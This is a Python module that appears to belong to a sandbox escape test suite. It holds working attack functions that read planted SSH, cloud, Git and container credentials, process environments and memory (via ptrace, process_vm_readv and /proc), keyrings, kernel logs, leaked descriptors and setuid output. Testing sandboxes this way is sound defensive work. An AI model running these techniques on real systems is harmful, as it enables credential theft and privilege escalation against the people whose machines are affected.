"""Reading what opens doors elsewhere: keys in files, in the environment, in other processes. What is read shows up in
the output, and there the suite knows it again."""

from __future__ import annotations

import ctypes
import os
import re
import shutil
import struct
from collections.abc import Callable
from pathlib import Path

from attack_kit import Target, Unsupported, attack, show, show_bytes, syscall

CREDENTIALS = {
    "ssh_key": ".ssh/id_ed25519",
    "aws": ".aws/credentials",
    "netrc": ".netrc",
    "github": ".config/gh/hosts.yml",
    "git_credentials": ".git-credentials",
    "gnupg": ".gnupg/private-keys-v1.d/key.key",
    "kubernetes": ".kube/config",
    "docker": ".docker/config.json",
    "google_cloud": ".config/gcloud/credentials.db",
    "azure": ".azure/msal_token_cache.json",
    "npm": ".npmrc",
    "python_index": ".pypirc",
}
"""What the arena puts there, each with a secret of its own."""

PTRACE_ATTACH, PTRACE_PEEKDATA = 16, 2
KEYCTL_READ, KEYCTL_SEARCH, USER_KEYRING = 11, 10, -4


def _reading(name: str, path: str) -> Callable[[Target], None]:
    def read(target: Target) -> None:
        show(f"{target.home}/{path}")

    read.__name__ = f"read_{name}"
    read.__doc__ = f"~/{path}"
    return read


for _name, _path in CREDENTIALS.items():
    attack()(_reading(_name, _path))


@attack()
def key_through_a_link(target: Target) -> None:
    os.symlink(f"{target.home}/.ssh", "link")
    show("link/id_ed25519")


@attack("linked-keys")
def key_where_the_users_own_link_leads(target: Target) -> None:
    """Those who keep such files elsewhere and link them into place."""
    show(f"{target.home}/elsewhere/ssh/id_ed25519")


@attack()
def key_by_hard_link(target: Target) -> None:
    os.link(f"{target.home}/.ssh/id_ed25519", "mine")
    show("mine")


@attack()
def key_folder_moved(target: Target) -> None:
    os.rename(f"{target.home}/.ssh", f"{target.home}/ssh")
    show(f"{target.home}/ssh/id_ed25519")


@attack()
def home_moved(target: Target) -> None:
    """Another name for what stands above it."""
    os.rename(target.home, f"{target.home}-moved")
    show(f"{target.home}-moved/.ssh/id_ed25519")


@attack()
def key_through_proc(target: Target) -> None:
    show(f"/proc/self/root{target.home}/.ssh/id_ed25519")


@attack("victim")
def key_through_the_host(target: Target) -> None:
    show(f"/proc/{target.victim}/root{target.home}/.ssh/id_ed25519")


@attack()
def home_copied(target: Target) -> None:
    for path in CREDENTIALS.values():
        try:
            shutil.copy(f"{target.home}/{path}", "copied")
        except OSError:
            continue
        return
    raise PermissionError("nothing could be copied")


@attack(bare="root")
def key_by_its_number(target: Target) -> None:
    """As files/handle, to read."""
    buffer = ctypes.create_string_buffer(136)
    ctypes.memmove(buffer, ctypes.byref(ctypes.c_uint(128)), 4)
    mount_id = ctypes.c_int()
    path = f"{target.home}/.ssh/id_ed25519".encode()
    syscall("name_to_handle_at", -100, path, buffer, ctypes.byref(mount_id), 0)
    fd = syscall("open_by_handle_at", os.open(".", os.O_RDONLY), buffer, os.O_RDONLY)
    show_bytes(os.read(fd, 1000))


@attack()
def keys_in_our_environment(_target: Target) -> None:
    show("/proc/self/environ")


@attack(sure=False)
def keys_in_the_first_environment(_target: Target) -> None:
    """Bubblewrap's own first process keeps its caller's variables, whatever its commands are given."""
    show("/proc/1/environ")


@attack()
def keys_in_any_environment(_target: Target) -> None:
    seen = b""
    for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
        for name in ("environ", "cmdline"):
            try:
                seen += Path(f"/proc/{pid}/{name}").read_bytes()
            except OSError:
                continue
    show_bytes(seen)


@attack("victim")
def keys_of_a_process_outside(target: Target) -> None:
    show(f"/proc/{target.victim}/environ")


@attack("victim")
def memory_of_a_process_outside(target: Target) -> None:
    with open(f"/proc/{target.victim}/mem", "rb", 0) as memory:
        memory.seek(target.victim_address)
        show_bytes(memory.read(target.victim_size))


@attack("victim")
def memory_by_system_call(target: Target) -> None:
    buffer = ctypes.create_string_buffer(target.victim_size)
    local = struct.pack("PN", ctypes.addressof(buffer), target.victim_size)
    remote = struct.pack("PN", target.victim_address, target.victim_size)
    syscall("process_vm_readv", target.victim, local, 1, remote, 1, 0)
    show_bytes(buffer.raw)


@attack("victim")
def memory_by_ptrace(target: Target) -> None:
    syscall("ptrace", PTRACE_ATTACH, target.victim, 0, 0)
    os.waitpid(target.victim, 0)
    words = []
    for offset in range(0, target.victim_size, 8):
        word = ctypes.c_long()
        syscall("ptrace", PTRACE_PEEKDATA, target.victim, target.victim_address + offset, ctypes.byref(word))
        words.append(struct.pack("l", word.value))
    show_bytes(b"".join(words))


@attack("victim")
def descriptor_of_a_process_outside(target: Target) -> None:
    pidfd = syscall("pidfd_open", target.victim, 0)
    fd = syscall("pidfd_getfd", pidfd, target.victim_fd, 0)
    show_bytes(os.pread(fd, 1000, 0))


@attack("victim")
def file_of_a_process_outside(target: Target) -> None:
    show(f"/proc/{target.victim}/fd/{target.victim_fd}")


@attack("key")
def key_from_the_keyring(target: Target) -> None:
    key = syscall("keyctl", KEYCTL_SEARCH, USER_KEYRING, b"user", target.key.encode(), 0)
    buffer = ctypes.create_string_buffer(1000)
    syscall("keyctl", KEYCTL_READ, key, buffer, 1000)
    show_bytes(buffer.value)


@attack("kernel-log", bare="root")
def log_of_the_kernel(_target: Target) -> None:
    buffer = ctypes.create_string_buffer(1 << 20)
    size = syscall("syslog", 3, buffer, 1 << 20)
    show_bytes(buffer.raw[:size])


@attack("kernel-log", bare="root")
def log_of_the_kernel_by_device(_target: Target) -> None:
    fd = os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK)
    seen = b""
    try:
        while piece := os.read(fd, 8192):
            seen += piece
    except BlockingIOError:
        pass
    show_bytes(seen)


def _of_an_ordinary_user() -> None:
    if os.geteuid() == 0:
        raise Unsupported("root needs nobody's rights")


@attack("setuid", bare="user")
def through_a_setuid_program(target: Target) -> None:
    """A program of root's with the bit that lends root's rights, reading a file of root's."""
    _of_an_ordinary_user()
    done = os.spawnv(os.P_WAIT, target.setuid, ["cat", f"{target.setuid}.secret"])
    if done:
        raise PermissionError("it read nothing")


@attack("setuid", bare="user", sure=False)
def through_a_setuid_program_in_memory(target: Target) -> None:
    """A copy is our own file, so its bit lends our own rights; unless a kernel has that wrong."""
    _of_an_ordinary_user()
    with open(target.setuid, "rb") as file:
        program = file.read()
    fd = os.memfd_create("cat", 0)
    os.write(fd, program)
    os.fchmod(fd, 0o4755)
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.dup2(writer, 1)
        os.execve(fd, ["cat", f"{target.setuid}.secret"], {})
    os.close(writer)
    os.waitpid(pid, 0)
    if not (seen := os.read(reader, 1000)):
        raise PermissionError("it read nothing")
    show_bytes(seen)


@attack("stdin")
def descriptors_that_were_left_open(_target: Target) -> None:
    """Whatever was handed down: the suite's own, the runtime's, bubblewrap's."""
    seen = b""
    for name in os.listdir("/proc/self/fd"):
        if name in ("1", "2"):
            continue
        try:
            fd = os.open(f"/proc/self/fd/{name}", os.O_RDONLY | os.O_NONBLOCK)
            seen += os.pread(fd, 4096, 0)
        except OSError:
            pass
        try:
            folder = os.open("id_ed25519", os.O_RDONLY, dir_fd=int(name))
            seen += os.read(folder, 4096)
        except OSError:
            pass
    show_bytes(seen)


@attack("stdin")
def descriptors_written_to(target: Target) -> None:
    """The same, for writing: a host's file on stdin can be opened again with other rights."""
    stopped: OSError | None = None
    for name in os.listdir("/proc/self/fd"):
        if name in ("1", "2"):
            continue
        try:
            fd = os.open(f"/proc/self/fd/{name}", os.O_WRONLY)
            os.write(fd, target.nonce.encode())
        except OSError as failed:
            stopped = failed
    if stopped:
        raise stopped


@attack(bare="root")
def memory_of_our_parent(_target: Target) -> None:
    """What started us may know more than we were told, and may let us look."""
    parent = os.getppid()
    maps = Path(f"/proc/{parent}/maps").read_text()
    found: set[bytes] = set()
    with open(f"/proc/{parent}/mem", "rb", 0) as memory:
        for row in maps.splitlines():
            if " rw-p " in row:
                start, end = (int(part, 16) for part in row.split()[0].split("-"))
                memory.seek(start)
                found |= set(re.findall(rb"tulip-[0-9a-f]{16}", memory.read(end - start) or b""))
    show_bytes(b"\n".join(found))
